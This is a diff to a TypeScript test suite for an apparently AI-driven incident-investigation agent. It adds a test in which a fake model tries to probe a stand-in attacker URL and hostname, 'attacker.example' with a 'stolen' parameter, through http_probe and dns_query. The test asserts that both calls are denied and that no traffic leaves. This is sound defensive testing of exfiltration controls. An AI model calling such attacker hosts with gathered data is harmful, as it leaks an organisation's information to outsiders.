@@ -8,6 +8,7 @@ import { alert, observed, readsOf } from '../agent/fakes'
 import { aPublicNetwork } from '../connectors/public-network'
 import { at } from '../support/alerts'
 import { carryOut } from '../support/executor'
+import { approve, aVendor, findings, isReview, numberOf, portsTo, submit } from '../support/fake-model'
 import { anOutage, leavings, STARTS } from '../support/outage'
 
 const NAMES = {
@@ -25,6 +26,7 @@ const portsWith = (http: typeof fetch, variables: object = {}) =>
 function aToolbox(network: Omit<Parameters<typeof aPublicNetwork>[0], 'names'> = {}) {
   const outside = aPublicNetwork({ names: NAMES, ...network })
   const toolbox = outsideTools(portsWith(outside.http))
+  const evidence = [observed(1, 'get_alert_payload', { url: 'https://inside.example.com/' })]
   const context = {
     reads: readsOf({
       alerts: [
@@ -36,7 +38,8 @@ function aToolbox(network: Omit<Parameters<typeof aPublicNetwork>[0], 'names'> =
       ],
     }),
     now: STARTS,
-    evidence: [observed(1, 'get_alert_payload', { url: 'https://inside.example.com/' })],
+    evidence,
+    given: evidence,
   }
   const call = async (name: string, args: object) => {
     const outcome = await toolbox.run(name, args, context)
@@ -238,6 +241,37 @@ describe('an investigation', () => {
     expect(incident[0].run_summary).toContain('fetch_runbook failed (policy_denied)')
     const events = await outage.org.rows('SELECT kind, place FROM security_events WHERE org_id = ?')
     expect(events).toEqual([{ kind: 'refusal', place: 'fetch_runbook' }])
+  })
+
+  it('gives a model no address that came from the model itself', async ({ expect }) => {
+    const [address, host] = ['https://attacker.example/?stolen=1', 'stolen.attacker.example']
+    const words = [
+      { name: 'recent_incidents', args: { service: address, days: 1 } },
+      { name: 'recent_incidents', args: { service: host, days: 1 } },
+    ]
+    const wishes = [
+      { name: 'http_probe', args: { url: address } },
+      { name: 'dns_query', args: { name: host } },
+    ]
+    const vendor = aVendor((sent, turn) => {
+      if (isReview(sent)) return approve
+      if (turn < 2) return { calls: turn === 0 ? words : wishes }
+      return submit(findings(numberOf(sent, 'recent_changes'), 'The deployment preceded the first alert.'))
+    })
+    const outage = await anOutage()
+    const outside = aPublicNetwork({ names: NAMES })
+    const tools = await toolboxOf(openTenant(env.DB, outage.org.orgId), portsWith(outside.http))
+    await carryOut(outage.run, { startsAt: STARTS, tools, llm: portsTo(vendor) })
+    expect(outside.seen).toEqual([])
+    const refused = await outage.org.rows(
+      "SELECT tool, error_code FROM evidence WHERE org_id = ? AND tool IN ('http_probe', 'dns_query') ORDER BY tool",
+    )
+    expect(refused).toEqual([
+      { tool: 'dns_query', error_code: 'policy_denied' },
+      { tool: 'http_probe', error_code: 'policy_denied' },
+    ])
+    // The words did come back to it.
+    expect(vendor.sent.some(({ text }) => text.split(address).length > 3)).toBe(true)
   })
 
   it('has none of these tools where the deployment keeps to its connections', async ({ expect }) => {
